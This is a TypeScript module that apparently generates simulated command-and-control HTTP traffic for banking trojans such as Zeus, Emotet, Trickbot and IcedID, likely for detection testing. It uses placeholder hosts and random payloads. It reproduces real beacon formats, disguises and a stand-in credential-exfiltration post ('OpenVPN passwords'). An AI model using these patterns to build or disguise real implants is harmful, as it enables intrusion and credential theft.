import { httpRequest, type Program } from '../exchange.ts';

const internetExplorer8 =
  'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727)';
const internetExplorer7 = 'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0; SLCC1; .NET CLR 2.0.50727)';

/** Fetches an encrypted configuration, then posts encrypted reports to a gate. */
export const zeus: Program = (random) => {
  const server = 'kredit-abgleich.example';
  const configuration = httpRequest('GET /wp-images/cfg.bin HTTP/1.1', [
    ['Accept', '*/*'],
    ['Connection', 'Close'],
    ['User-Agent', internetExplorer8],
    ['Host', server],
    ['Cache-Control', 'no-cache'],
  ]);
  const reports = random.beat(11.5, 4, 12, 1.5).map((at) => ({
    at,
    server,
    port: 80,
    request: httpRequest(
      'POST /wp-images/gate.php HTTP/1.1',
      [
        ['Accept', '*/*'],
        ['User-Agent', internetExplorer8],
        ['Host', server],
        ['Content-Length', '%length%'],
        ['Connection', 'Keep-Alive'],
        ['Cache-Control', 'no-cache'],
      ],
      random.bytes(260 + random.below(200)),
    ),
  }));
  return [{ at: 0.5, server, port: 80, request: configuration }, ...reports];
};

/** Checks in with a query string that names the bot, its version, its plug-ins and the processor load. */
export const spyEye: Program = (random) => {
  const server = '203.0.113.87';
  const identity = `guid=Admin!WORK-${random.hexadecimal(4).toUpperCase()}!${random.hexadecimal(8).toUpperCase()}`;
  return random.beat(1, 5, 12, 1).map((at, index) => ({
    at,
    server,
    port: 80,
    request: httpRequest(
      `GET /main/gate.php?${identity}&ver=10299&stat=ONLINE&ie=8.0.7601.17514&os=6.1.7601&ut=Admin&cpu=${random.below(60)}&ccrc=${random.hexadecimal(8).toUpperCase()}&md5=${index === 0 ? '' : random.hexadecimal(32)} HTTP/1.0`,
      [
        ['User-Agent', 'Microsoft Internet Explorer'],
        ['Host', server],
        ['Connection', 'close'],
      ],
    ),
  }));
};

/** Posts to bare addresses of hacked web servers whose proxy listens on 8080, under a fixed three-part path. */
export const cridex: Program = (random) => {
  const servers = ['198.51.100.171', '203.0.113.29', '198.51.100.171', '203.0.113.144'];
  return random.beat(0.8, 7, 8, 2).map((at, index) => {
    const server = servers[index % servers.length] ?? '203.0.113.29';
    return {
      at,
      server,
      port: 8080,
      request: httpRequest(
        'POST /zb/v_01_b/in/ HTTP/1.1',
        [
          ['Accept', '*/*'],
          ['User-Agent', internetExplorer7],
          ['Host', `${server}:8080`],
          ['Content-Length', '%length%'],
          ['Connection', 'Keep-Alive'],
          ['Cache-Control', 'no-cache'],
        ],
        random.bytes(320 + random.below(90)),
      ),
    };
  });
};

/** Hides its question in a long path that looks like a picture: Base64 with slashes strewn in and signs escaped. */
export const gozi: Program = (random) => {
  const server = 'bildarchiv-nord.test';
  const picture = (extension: string): string => {
    const base64 = random.base64(150).replaceAll('+', '_2B').replaceAll('/', '_2F').replaceAll('=', '');
    const parts = base64.match(/.{18,27}/g) ?? [base64];
    return `/images/${parts.join('/')}.${extension}`;
  };
  const extensions = ['avi', 'gif', 'jpeg', 'gif', 'bmp', 'jpeg', 'gif'];
  return random.beat(1.2, extensions.length, 8, 1.5).map((at, index) => ({
    at,
    server,
    port: 80,
    request: httpRequest(`GET ${picture(extensions[index] ?? 'gif')} HTTP/1.1`, [
      ['Accept', 'text/html, application/xhtml+xml, */*'],
      ['Accept-Language', 'en-US'],
      ['User-Agent', 'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko'],
      ['Accept-Encoding', 'gzip, deflate'],
      ['Host', server],
      ['Connection', 'Keep-Alive'],
    ]),
  }));
};

/** The first Emotet: a GET of the root whose Cookie is the encrypted message. */
export const emotetCookie: Program = (random) => {
  const servers = [
    { server: '198.51.100.203', port: 8080 },
    { server: '203.0.113.61', port: 7080 },
    { server: '198.51.100.18', port: 80 },
  ];
  return random.beat(0.7, 6, 9, 2).map((at, index) => {
    const { server, port } = servers[index % servers.length] ?? { server: '198.51.100.18', port: 80 };
    return {
      at,
      server,
      port,
      request: httpRequest('GET / HTTP/1.1', [
        ['Cookie', `${random.below(65_536)}=${random.base64(300)}`],
        [
          'User-Agent',
          'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727; .NET CLR 3.5.30729; .NET4.0C)',
        ],
        ['Host', port === 80 ? server : `${server}:${port}`],
        ['Connection', 'Keep-Alive'],
        ['Cache-Control', 'no-cache'],
      ]),
    };
  });
};

/** The Emotet of 2020: random path, a Referer made of the server's own address, a form with one encrypted file. */
export const emotetForm: Program = (random) => {
  const server = '203.0.113.198';
  return random.beat(1.5, 5, 11.5, 1).map((at) => {
    const path = Array.from({ length: 2 + random.below(3) }, () =>
      random.text(5 + random.below(12), 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'),
    ).join('/');
    const boundary = `---------------------------${random.text(15, '0123456789')}`;
    const part = `--${boundary}\r\nContent-Disposition: form-data; name="${random.text(7, 'abcdefghijklm')}"; filename="${random.text(9, 'nopqrstuvwxyz')}"\r\nContent-Type: application/octet-stream\r\n\r\n`;
    return {
      at,
      server,
      port: 80,
      request: httpRequest(
        `POST /${path}/ HTTP/1.1`,
        [
          ['Referer', `${server}/${path}/`],
          ['Content-Type', `multipart/form-data; boundary=${boundary}`],
          ['DNT', '0'],
          [
            'User-Agent',
            'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C; .NET4.0E)',
          ],
          ['Host', server],
          ['Content-Length', '%length%'],
          ['Connection', 'Keep-Alive'],
          ['Cache-Control', 'no-cache'],
        ],
        `${part}${Buffer.from(random.bytes(400)).toString('latin1')}\r\n--${boundary}--\r\n`,
      ),
    };
  });
};

/** The modules of Trickbot report over plain HTTP: group tag, client name and command number make the path. */
export const trickbot: Program = (random) => {
  const client = `DESKTOP-${random.text(7, 'ABCDEFGHJKLMNPQRSTUVWXYZ0123456789')}_W10018362.${random.hexadecimal(32).toUpperCase()}`;
  const commands = [90, 81, 81, 83, 90, 81];
  return random.beat(1, commands.length, 9.5, 1).map((at, index) => {
    const boundary = `---------${random.text(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}`;
    const field = (name: string, value: string): string =>
      `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
    return {
      at,
      server: '198.51.100.129',
      port: 8082,
      request: httpRequest(
        `POST /ono19/${client}/${commands[index]}/ HTTP/1.1`,
        [
          ['Content-Type', `multipart/form-data; boundary=${boundary}`],
          ['User-Agent', 'test'],
          ['Host', '198.51.100.129'],
          ['Connection', 'close'],
          ['Content-Length', '%length%'],
        ],
        `${field('data', random.base64(120))}${field('source', 'OpenVPN passwords')}--${boundary}--\r\n`,
      ),
    };
  });
};

/** Gives itself away as analytics: no User-Agent, and a Cookie whose field names are those of a web counter. */
export const icedId: Program = (random) => {
  const server = 'wellenbrecher-9.test';
  const gads = random.text(10, '0123456789');
  return random.beat(1.1, 5, 10.5, 1.5).map((at, index) => ({
    at,
    server,
    port: 80,
    request: httpRequest('GET / HTTP/1.1', [
      ['Connection', 'Keep-Alive'],
      [
        'Cookie',
        `__gads=${gads}:1:${1200 + index * 11}:${60 + index}; _gat=10.0.19041.64; _ga=1.${random.text(6, '0123456789')}.1635208534.${1000 + random.below(90)}; _u=${Buffer.from('DESKTOP-M1FFTX').toString('hex')}:${Buffer.from('user').toString('hex')}; __io=21_${random.text(10, '0123456789')}_${random.text(10, '0123456789')}; _gid=${random.hexadecimal(12).toUpperCase()}`,
      ],
      ['Host', server],
    ]),
  }));
};
